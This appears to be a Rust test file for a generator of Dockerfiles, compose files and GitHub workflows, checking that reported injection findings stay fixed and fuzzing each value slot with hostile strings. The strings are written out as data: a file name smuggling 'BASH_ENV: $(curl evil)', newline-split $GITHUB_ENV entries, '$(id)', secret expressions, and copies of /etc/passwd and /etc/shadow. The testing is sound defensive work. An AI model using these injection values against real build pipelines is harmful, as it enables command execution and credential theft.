//! Hostile values (issue 9: findings 4, 5, 6, 10, 11, 12 and acceptance 2). Each finding
//! is reproduced as it was reported and shown fixed; then the injection property: every
//! value slot of `render_props`, filled with hostile strings, is either refused with a
//! diagnostic, or read back exactly by the consumer with the same structure (the same
//! Dockerfile instructions, read with BuildKit's continuation rule; the same YAML keys
//! and workflow steps; the same HCL blocks).
//!
//! Cases: `SPECC_FUZZ_CASES` (default 8) random strings per slot, besides the fixed list.

use std::collections::BTreeMap;

use crate::render_props::{Outcome, Slot, generate, read_back, round_trip, spec_with};
use crate::support::dockerfile_reader as df;
use crate::support::validators::{run_tool_stdin, tool, validators_expected};
use serde_yaml_ng::Value as Yaml;
use specc::render::{RenderOptions, Rendered};

fn render(text: &str, spec_name: &str) -> Result<Vec<Rendered>, Vec<String>> {
    use miette::Diagnostic;
    let code = |e: &specc::Error| e.code().map(|c| c.to_string()).unwrap_or_default();
    let checked = specc::compile("spec.kdl", text)
        .map_err(|d| d.errors.iter().map(code).collect::<Vec<_>>())?;
    let plan = specc::plan::plan(&checked, &specc::PlanOptions::default());
    let options = RenderOptions {
        spec_name: spec_name.into(),
        regenerate: format!("specc generate {spec_name}"),
        check: format!("specc check {spec_name}"),
    };
    specc::render::render(&checked, &plan, &options).map_err(|e| e.iter().map(code).collect())
}

fn files(text: &str) -> Vec<Rendered> {
    render(text, "specc.kdl").unwrap_or_else(|codes| panic!("refused: {codes:?}\n{text}"))
}

fn codes(text: &str) -> Vec<String> {
    match render(text, "specc.kdl") {
        Ok(_) => Vec::new(),
        Err(codes) => codes,
    }
}

fn file<'a>(files: &'a [Rendered], path: &str) -> &'a str {
    &files
        .iter()
        .find(|f| f.path == path)
        .unwrap_or_else(|| panic!("no {path}"))
        .contents
}

fn kdl(s: &str) -> String {
    crate::support::kdl::string(s)
}

/// Hadolint must parse the Dockerfile (when the validators are there).
fn hadolint_parses(text: &str) {
    if tool("hadolint").is_none() && !validators_expected() {
        return;
    }
    let out = run_tool_stdin(
        "hadolint",
        ["--no-fail", "-"],
        std::env::temp_dir(),
        text.as_bytes(),
    );
    let all = out.combined();
    assert!(
        out.success() && !all.contains("unexpected"),
        "hadolint cannot parse:\n{all}\n{text}"
    );
}

// ---------------------------------------------------------------------------------------
// Finding 4: a value ending in `\` removes the next Dockerfile instruction
// ---------------------------------------------------------------------------------------

#[test]
fn trailing_backslash_does_not_join_the_next_instruction() {
    for (slot, node) in [
        ("workdir", "workdir {v}\n    user \"nobody\""),
        ("user", "user {v}\n    user \"nobody\""),
        ("env", "env A {v}\n    user \"nobody\""),
        ("label", "label \"com.example.k\" {v}\n    user \"nobody\""),
        ("arg", "arg A {v}\n    user \"nobody\""),
        ("label key", "label {v} \"x\"\n    user \"nobody\""),
    ] {
        for value in ["/srv/app\\", "a\\\\", "\\", "a\\\"b\\"] {
            let text = format!(
                "project demo version=\"1.0.0\"\nstage main from=\"busybox:1.36\" {{\n    {}\n}}\nimage app stage=main\n",
                node.replace("{v}", &kdl(value))
            );
            let out = files(&text);
            let dockerfile = file(&out, "docker/app.Dockerfile");
            let ins = df::parse(dockerfile).unwrap_or_else(|e| panic!("{e}\n{dockerfile}"));
            let last_user = ins.iter().rev().find(|i| i.keyword == "USER").unwrap();
            assert_eq!(
                last_user.args,
                df::Args::Text("nobody".into()),
                "{slot} {value:?}: USER nobody was swallowed:\n{dockerfile}"
            );
            for line in dockerfile.lines() {
                let ends = line.trim_end_matches([' ', '\t']);
                assert!(
                    !ends.ends_with('\\') || ends.ends_with(" \\") && !ends.ends_with("\\ \\"),
                    "{slot} {value:?}: a line ends in `\\`: {line:?}"
                );
            }
            hadolint_parses(dockerfile);
        }
    }
}

#[test]
fn trailing_backslash_reads_back_exactly() {
    for slot in [
        Slot::Workdir,
        Slot::User,
        Slot::EnvValue,
        Slot::LabelValue,
        Slot::Description,
    ] {
        for value in ["/srv/app\\", "a\\\\", "a\\\"b\\"] {
            match round_trip(slot, value) {
                Ok(Some(_)) => {}
                Ok(None) => panic!("{slot:?}: {value:?} refused"),
                Err(e) => panic!("{e}"),
            }
        }
    }
}

#[test]
fn lines_longer_than_buildkit_reads_are_refused_in_check() {
    let long = "x".repeat(70_000);
    let text = format!(
        "project demo version=\"1.0.0\"\nstage main from=\"busybox:1.36\" {{\n    run {}\n}}\nimage app stage=main\n",
        kdl(&format!("echo {long}"))
    );
    assert!(codes(&text).contains(&"specc::check::line_too_long".to_string()));
    // Each `run` argument is a line of its own: the same text split is fine.
    let half = "x".repeat(35_000);
    let split = format!(
        "project demo version=\"1.0.0\"\nstage main from=\"busybox:1.36\" {{\n    run {} {}\n}}\nimage app stage=main\n",
        kdl(&format!("echo {half}")),
        kdl(&format!("echo {half}"))
    );
    let out = files(&split);
    let longest = file(&out, "docker/app.Dockerfile")
        .lines()
        .map(str::len)
        .max()
        .unwrap();
    assert!(longest < 64 * 1024);
}

// ---------------------------------------------------------------------------------------
// Finding 5: a spec file name with U+2028 injects YAML keys
// ---------------------------------------------------------------------------------------

const FULL: &str = r#"project demo version="1.0.0"
registry hub host="docker.io" namespace="acme"
stage main from="busybox:1.36" {
    run "true"
}
image app stage=main registries=hub
service app image=app
workflow release {
    on "tag" pattern="v*"
    on "dispatch"
}
"#;

fn yaml_files(files: &[Rendered]) -> BTreeMap<String, Yaml> {
    files
        .iter()
        .filter(|f| f.path.ends_with(".yml") || f.path.ends_with(".yaml"))
        .map(|f| {
            let v = serde_yaml_ng::from_str(&f.contents)
                .unwrap_or_else(|e| panic!("{}: {e}\n{}", f.path, f.contents));
            (f.path.clone(), v)
        })
        .collect()
}

#[test]
fn spec_names_with_any_line_terminator_inject_nothing() {
    let plain = render(FULL, "specc.kdl").unwrap();
    let expected = yaml_files(&plain);
    assert!(!expected.is_empty());
    for sep in [
        "\n", "\r", "\r\n", "\u{85}", "\u{2028}", "\u{2029}", "\u{0}", "\u{feff}",
    ] {
        let name = format!("x{sep}env: {{BASH_ENV: $(curl evil)}}{sep}#.kdl");
        let out = render(FULL, &name).unwrap();
        assert_eq!(yaml_files(&out), expected, "name {name:?}");
        for f in &out {
            for line in f.contents.lines().take(2) {
                assert!(
                    line.is_empty() || line.starts_with('#'),
                    "{}: header line {line:?}",
                    f.path
                );
                assert!(!line.contains(['\u{85}', '\u{2028}', '\u{2029}', '\r']));
            }
        }
    }
}

// ---------------------------------------------------------------------------------------
// Finding 6: YAML 1.1 booleans and null as keys
// ---------------------------------------------------------------------------------------

#[test]
fn yaml11_words_are_quoted_as_keys() {
    use specc::render::escape::yaml_key;
    for word in [
        "on", "On", "ON", "off", "yes", "y", "Y", "n", "N", "no", "true", "False", "null", "Null",
        "~", "", "1", "0x1", "1e3", ".inf", "-", "<<", "a: b", "#x",
    ] {
        let key = yaml_key(word);
        assert!(key.starts_with('"'), "{word:?} written bare as {key}");
    }
    // In outputs: compose env names and workflow smoke-test env names.
    let text = r#"project demo version="1.0.0"
stage main from="busybox:1.36"
image app stage=main
service app image=app {
    env on "1"
    env y "2"
    env "null" "3"
}
workflow ci {
    on "dispatch"
    smoke-test image=app {
        env yes "4"
        env Off "5"
    }
}
"#;
    let out = render(text, "specc.kdl").unwrap_or_else(|e| panic!("the spec renders: {e:?}"));
    assert!(
        out.iter().any(|f| f.path == "compose.yaml")
            && out.iter().any(|f| f.path.ends_with("ci.yml")),
        "compose and the workflow are generated"
    );
    for f in &out {
        for word in ["on", "y", "null", "yes", "Off"] {
            for line in f.contents.lines() {
                assert!(
                    line.trim_start() != format!("{word}: \"")
                        && !line.trim_start().starts_with(&format!("{word}: ")),
                    "{}: bare key `{word}`: {line}",
                    f.path
                );
            }
        }
    }
}

// ---------------------------------------------------------------------------------------
// Findings 10, 11: build contexts
// ---------------------------------------------------------------------------------------

fn copy_spec(copy: &str) -> String {
    format!(
        "project demo version=\"1.0.0\"\nstage main from=\"busybox:1.36\" {{\n    {copy}\n}}\nimage app stage=main\nworkflow ci {{\n    on \"dispatch\"\n}}\n"
    )
}

#[test]
fn copy_sources_outside_the_context_are_refused() {
    for copy in [
        r#"copy "../x" to="/x""#,
        r#"copy "a/../../x" to="/x""#,
        r#"copy "/etc/passwd" to="/x""#,
        r#"add "/etc/shadow" to="/x""#,
    ] {
        assert_eq!(
            codes(&copy_spec(copy)),
            ["specc::check::source_outside_context"],
            "{copy}"
        );
    }
    // Inside the context, from another stage or image, or remote: accepted.
    for copy in [
        r#"copy "a/../b" to="/x""#,
        r#"copy from="busybox:1.36" "/bin/busybox" to="/x""#,
        r#"add "https://example.com/a.tgz" to="/x""#,
    ] {
        files(&copy_spec(copy));
    }
}

#[test]
fn copying_git_needs_an_explicit_opt_in_and_never_carries_a_token() {
    for copy in [
        r#"copy ".git" to="/src/.git""#,
        r#"copy "./.git/" to="/src/.git""#,
        r#"copy ".git/config" to="/x""#,
        r#"add ".git" to="/src/.git""#,
    ] {
        assert_eq!(
            codes(&copy_spec(copy)),
            ["specc::check::copies_git"],
            "{copy}"
        );
    }
    let refused = format!("ignore \"!.git\"\n{}", copy_spec(r#"copy "." to="/src""#));
    assert_eq!(codes(&refused), ["specc::check::copies_git"]);
    let out = files(&copy_spec(
        r#"copy ".git" to="/src/.git" include-git=#true"#,
    ));
    // The opt-in is honoured (no `.git` in .dockerignore) and no checkout persists
    // the job's token into `.git`.
    assert!(!file(&out, ".dockerignore").lines().any(|l| l == ".git"));
    for (path, doc) in yaml_files(&out) {
        if !path.starts_with(".github/") {
            continue;
        }
        let steps = doc["jobs"]
            .as_mapping()
            .unwrap()
            .values()
            .flat_map(|j| j["steps"].as_sequence().unwrap().clone());
        let mut checkouts = 0;
        for step in steps {
            if step["uses"]
                .as_str()
                .is_some_and(|u| u.starts_with("actions/checkout"))
            {
                checkouts += 1;
                assert_eq!(step["with"]["persist-credentials"], Yaml::Bool(false));
            }
        }
        assert!(checkouts > 0);
    }
}

// ---------------------------------------------------------------------------------------
// Finding 12: the dispatch `version` input reaches $GITHUB_ENV
// ---------------------------------------------------------------------------------------

fn version_script(files: &[Rendered]) -> String {
    let docs = yaml_files(files);
    let wf = &docs[".github/workflows/release.yml"];
    let job = wf["jobs"].as_mapping().unwrap().values().next().unwrap();
    for step in job["steps"].as_sequence().unwrap() {
        if let Some(run) = step["run"].as_str()
            && run.contains("GITHUB_ENV")
        {
            assert!(!run.contains("${{"), "an expression inside `run:`");
            assert_eq!(
                step["env"]["INPUT_VERSION"].as_str(),
                Some("${{ inputs.version }}")
            );
            return run.to_string();
        }
    }
    panic!("no version step");
}

#[test]
fn dispatch_version_is_checked_before_github_env() {
    let out = files(FULL);
    let script = version_script(&out);
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("step.sh");
    std::fs::write(&path, &script).unwrap();
    let run = |input: &str| {
        let env_file = dir.path().join("github_env");
        std::fs::write(&env_file, "").unwrap();
        let status = std::process::Command::new("bash")
            .args(["--noprofile", "--norc", "-eo", "pipefail"])
            .arg(&path)
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .env("DEFAULT_VERSION", "1.0.0")
            .env("INPUT_VERSION", input)
            .env("GITHUB_EVENT_NAME", "workflow_dispatch")
            .env("GITHUB_REF_NAME", "main")
            .env("DEFAULT_BRANCH", "main")
            .env("GITHUB_REF_TYPE", "branch")
            .env("GITHUB_SHA", "0123456789abcdef0123456789abcdef01234567")
            .env("GITHUB_ENV", &env_file)
            .env("GITHUB_OUTPUT", dir.path().join("github_output"))
            .output()
            .unwrap();
        (
            status.status.success(),
            std::fs::read_to_string(&env_file).unwrap(),
        )
    };
    let (ok, env) = run("v1.2.3");
    assert!(ok);
    assert!(env.contains("VERSION=1.2.3\n"), "{env}");
    for hostile in [
        "1.0.0\nBASH_ENV=/tmp/evil",
        "1.0.0\rBASH_ENV=/tmp/evil",
        "1.0.0 BASH_ENV=x",
        "1.0.0\u{2028}x",
        "$(id)",
        "1.0.0<<EOF",
        "-rc",
        &"9".repeat(200),
    ] {
        let (ok, env) = run(hostile);
        assert!(!ok, "{hostile:?} accepted");
        assert!(!env.contains("BASH_ENV"), "{hostile:?}: {env}");
        assert!(env.is_empty(), "{hostile:?} wrote {env}");
    }
}

// ---------------------------------------------------------------------------------------
// Acceptance 2: the injection property
// ---------------------------------------------------------------------------------------

/// The issue's hostile strings, each alone and as a suffix/prefix of a plain word.
const HOSTILE: &[&str] = &[
    "\n",
    "\r",
    "\r\n",
    "\u{85}",
    "\u{2028}",
    "\u{2029}",
    "\u{b}",
    "\u{c}",
    "\\",
    "\\\\",
    "\"",
    "'",
    "`",
    "${{ secrets.X }}",
    "${{",
    "$(id)",
    "`id`",
    "$HOME",
    "${X}",
    "%{x}",
    "${x}",
    "$${",
    "key: value",
    "- item",
    "? k",
    "&anchor",
    "*alias",
    "!!str",
    "|",
    ">",
    "#",
    " #c",
    "{a: b}",
    "[a]",
    "on",
    "yes",
    "null",
    "~",
    "<<",
    "=",
    "\u{0}",
    "\u{feff}",
    "\u{202e}",
    "\u{2066}",
    "\u{200f}",
    "<<EOF",
    "\" \\\n",
];

/// The structure of every output, without the values: Dockerfile instruction keywords
/// (read with the continuation rule), YAML key paths and workflow step names, bake
/// target and group names.
fn structure(files: &[Rendered]) -> Vec<String> {
    let mut out = Vec::new();
    for f in files {
        out.push(format!("file {}", f.path));
        if f.path.ends_with("Dockerfile") {
            match df::parse(&f.contents) {
                Ok(ins) => out.extend(ins.iter().map(|i| format!("  {}", i.keyword))),
                Err(e) => out.push(format!("  unreadable: {e}")),
            }
        } else if f.path.ends_with(".yml") || f.path.ends_with(".yaml") {
            match serde_yaml_ng::from_str::<Yaml>(&f.contents) {
                Ok(doc) => keys(&doc, "", &mut out),
                Err(e) => out.push(format!("  unreadable: {e}")),
            }
        } else if f.path.ends_with(".hcl") {
            match crate::support::bake::evaluate(&f.contents, &Default::default()) {
                Ok(doc) => {
                    for block in ["target", "group"] {
                        if let Some(m) = doc.get(block).and_then(|b| b.as_object()) {
                            out.extend(m.keys().map(|k| format!("  {block} {k}")));
                        }
                    }
                }
                Err(e) => out.push(format!("  unreadable: {e}")),
            }
        }
    }
    out
}

/// Key paths of a YAML document (values left out); sequences by index; a workflow's
/// steps by name.
fn keys(v: &Yaml, at: &str, out: &mut Vec<String>) {
    match v {
        Yaml::Mapping(m) => {
            for (k, v) in m {
                let k = match k {
                    Yaml::String(s) => s.clone(),
                    other => format!("<non-string key {other:?}>"),
                };
                let path = format!("{at}/{k}");
                out.push(format!("  {path}"));
                keys(v, &path, out);
            }
        }
        Yaml::Sequence(s) => {
            for (i, v) in s.iter().enumerate() {
                if let Some(name) = v.get("name").and_then(Yaml::as_str)
                    && at.ends_with("/steps")
                {
                    out.push(format!(
                        "  {at}[{i}] step {}",
                        name.split(' ').next().unwrap_or("")
                    ));
                }
                keys(v, &format!("{at}[{i}]"), out);
            }
        }
        _ => {}
    }
}

/// The slot's value may change only the value: the consumers read it back exactly, and
/// the structure stays that of a plain value. One generate per case.
fn check(slot: Slot, value: &str, baseline: &[String]) -> Result<(), String> {
    let text = spec_with(slot, value);
    let files = match generate(&text)? {
        Outcome::Refused(_) => return Ok(()),
        Outcome::Files(files) => files,
    };
    let got = read_back(slot, &files).map_err(|e| format!("{slot:?} {value:?}: {e}"))?;
    if got.is_empty() || got.iter().any(|g| g != value) {
        return Err(format!("{slot:?}: wrote {value:?}, consumers read {got:?}"));
    }
    let got = structure(&files);
    // Where the slot is itself a key (a label key), only that key may differ.
    let strip = |v: &[String]| -> Vec<String> {
        v.iter()
            .filter(|l| slot != Slot::LabelKey || !l.contains("labels/"))
            .cloned()
            .collect()
    };
    if strip(&got) != strip(baseline) {
        return Err(format!(
            "{slot:?}: {value:?} changed the structure\n--- expected\n{}\n--- got\n{}",
            baseline.join("\n"),
            got.join("\n")
        ));
    }
    Ok(())
}

fn baseline(slot: Slot) -> Vec<String> {
    for plain in ["plain", "CRITICAL"] {
        if let Outcome::Files(f) = generate(&spec_with(slot, plain)).unwrap() {
            return structure(&f);
        }
    }
    panic!("{slot:?}: no plain value is accepted");
}

fn fuzz_cases() -> u32 {
    std::env::var("SPECC_FUZZ_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(4)
}

/// The property for one slot: every hostile string after a plain letter (so a trailing
/// `\\` or line terminator ends the value), a very long value ending in `\\`, and
/// random concatenations of hostile strings.
fn hostile_slot(slot: Slot) {
    use proptest::prelude::*;
    use proptest::test_runner::{Config, TestRunner};
    let base = baseline(slot);
    let long = format!("{}\\", "a".repeat(70_000));
    for value in HOSTILE.iter().map(|h| format!("a{h}")).chain([long]) {
        check(slot, &value, &base).unwrap_or_else(|e| panic!("{e}"));
    }
    let mut runner = TestRunner::new(Config {
        cases: fuzz_cases(),
        failure_persistence: None,
        ..Config::default()
    });
    let strategy =
        prop::collection::vec(prop::sample::select(HOSTILE), 1..5).prop_map(|v| v.concat());
    runner
        .run(&strategy, |value| {
            check(slot, &value, &base).map_err(TestCaseError::fail)
        })
        .unwrap_or_else(|e| panic!("{e}"));
}

macro_rules! hostile_slots {
    ($($name:ident => $slot:expr),* $(,)?) => {
        $(
            #[test]
            fn $name() {
                hostile_slot($slot);
            }
        )*
    };
}

hostile_slots! {
    hostile_env_value => Slot::EnvValue,
    hostile_label_key => Slot::LabelKey,
    hostile_label_value => Slot::LabelValue,
    hostile_description => Slot::Description,
    hostile_run_first => Slot::RunFirst,
    hostile_run_later => Slot::RunLater,
    hostile_cmd_word => Slot::CmdWord,
    hostile_entrypoint_word => Slot::EntrypointWord,
    hostile_copy_source => Slot::CopySource,
    hostile_copy_dest => Slot::CopyDest,
    hostile_workdir => Slot::Workdir,
    hostile_user => Slot::User,
    hostile_volume => Slot::Volume,
    hostile_healthcheck => Slot::Healthcheck,
    hostile_variant_arg => Slot::VariantArg,
    hostile_service_env => Slot::ServiceEnv,
    hostile_service_command => Slot::ServiceCommand,
    hostile_service_healthcheck => Slot::ServiceHealthcheck,
    hostile_smoke_env => Slot::SmokeEnv,
    hostile_workflow_name => Slot::WorkflowName,
    hostile_scan_severity => Slot::ScanSeverity,
    hostile_source => Slot::Source,
}
